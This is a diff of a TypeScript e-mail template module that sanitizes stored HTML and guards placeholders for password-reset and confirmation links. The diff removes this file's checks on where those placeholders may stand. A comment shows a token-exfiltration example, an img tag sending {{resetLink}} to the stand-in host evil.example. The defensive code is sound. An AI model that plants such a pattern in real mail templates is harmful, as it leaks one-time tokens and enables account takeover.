@@ -1,6 +1,6 @@
 import sanitizeHtml from 'sanitize-html';
-import { detectTemplateVariables, type ApplicationSystemTemplateName } from './mail.templates.js';
-import { htmlToText } from './mail.text.js';
+import type { Locale } from '../../core/mail.js';
+import { renderTemplate, type RenderedMail } from './mail.templates.js';
 
 /**
  * Link placeholders whose values carry one-time tokens (password reset, e-mail confirmation,
@@ -8,12 +8,6 @@ import { htmlToText } from './mail.text.js';
  * such a link to a server of their own, e.g. `<img src="https://evil.example/?{{resetLink}}">`.
  */
 export const SECRET_LINK_VARIABLES = ['resetLink', 'confirmLink', 'leaveLink'] as const;
-
-/** The placeholders a system template cannot work without: the link its mail exists for. */
-export const REQUIRED_VARIABLES: Partial<Record<ApplicationSystemTemplateName, string[]>> = {
-  email_confirmation: ['confirmLink'],
-  password_reset: ['resetLink'],
-};
 
 /** CSS properties e-mail clients understand, allowed in `style` attributes. */
 const CSS_PROPERTIES = [
@@ -85,7 +79,8 @@ const BASE_OPTIONS: sanitizeHtml.IOptions = {
   disallowedTagsMode: 'discard',
 };
 
-const SECRET_PLACEHOLDER = new RegExp(`\\{\\{\\s*(${SECRET_LINK_VARIABLES.join('|')})\\s*\\}\\}`, 'g');
+/** A secret link placeholder (`{{resetLink}}` …); global, for `matchAll`. */
+export const SECRET_PLACEHOLDER = new RegExp(`\\{\\{\\s*(${SECRET_LINK_VARIABLES.join('|')})\\s*\\}\\}`, 'g');
 
 export interface TemplateProblem {
   path: string;
@@ -121,51 +116,26 @@ export function sanitizeTemplateHtml(html: string): { html: string; problems: Te
   return { html: sanitized, problems };
 }
 
-/** Secret placeholders in text must stand on their own, so no text before them turns them into another URL. */
-function textProblems(text: string, path: string): TemplateProblem[] {
-  const problems: TemplateProblem[] = [];
-  for (const match of text.matchAll(SECRET_PLACEHOLDER)) {
-    const before = match.index === 0 ? '' : text[match.index - 1]!;
-    if (before !== '' && !/\s/.test(before))
-      problems.push({
-        path,
-        message: `{{${match[1]}}} must stand on its own in the text (after a space or a line break), not after "${text.slice(Math.max(0, match.index - 20), match.index)}".`,
-      });
-  }
-  return problems;
-}
-
-export interface CleanTemplate {
+/** What mail needs of an application's stored copy of a template to render it. */
+export interface StoredTemplate {
   subject: string;
   html_content: string;
   text_content: string | null;
-  variables: string[];
+  locale: Locale;
 }
 
 /**
- * What a template is stored as: HTML sanitized, variables detected from subject, HTML and text,
- * plus every problem with secret link placeholders (none means it may be saved). `systemName`
- * adds the check that a system template keeps the link it exists for.
+ * Renders a stored template. Its HTML was sanitized on save and is sanitized again here, so nothing
+ * that reached the database another way can put a script into a mail.
  */
-export function prepareTemplate(
-  input: { subject: string; html_content: string; text_content: string | null },
-  systemName?: ApplicationSystemTemplateName,
-): { template: CleanTemplate; problems: TemplateProblem[]; missing: string[] } {
-  const { html, problems } = sanitizeTemplateHtml(input.html_content);
-  const text = input.text_content?.trim() ? input.text_content : null;
-  for (const match of input.subject.matchAll(SECRET_PLACEHOLDER))
-    problems.push({ path: 'body.subject', message: `{{${match[1]}}} may not be used in the subject.` });
-  problems.push(...textProblems(htmlToText(html), 'body.html_content'));
-  if (text !== null) problems.push(...textProblems(text, 'body.text_content'));
-
-  const variables = detectTemplateVariables(`${input.subject} ${html} ${text ?? ''}`);
-  const required = systemName ? (REQUIRED_VARIABLES[systemName] ?? []) : [];
-  const inHtml = new Set(detectTemplateVariables(html));
-  const inText = new Set(detectTemplateVariables(text ?? ''));
-  const missing = required.filter((name) => !inHtml.has(name) || (text !== null && !inText.has(name)));
-  return {
-    template: { subject: input.subject, html_content: html, text_content: text, variables },
-    problems,
-    missing,
-  };
+export function renderStoredTemplate(template: StoredTemplate, data: Record<string, string>): RenderedMail {
+  return renderTemplate(
+    {
+      subject: template.subject,
+      html_content: sanitizeTemplateHtml(template.html_content).html,
+      text_content: template.text_content,
+    },
+    data,
+    { locale: template.locale },
+  );
 }
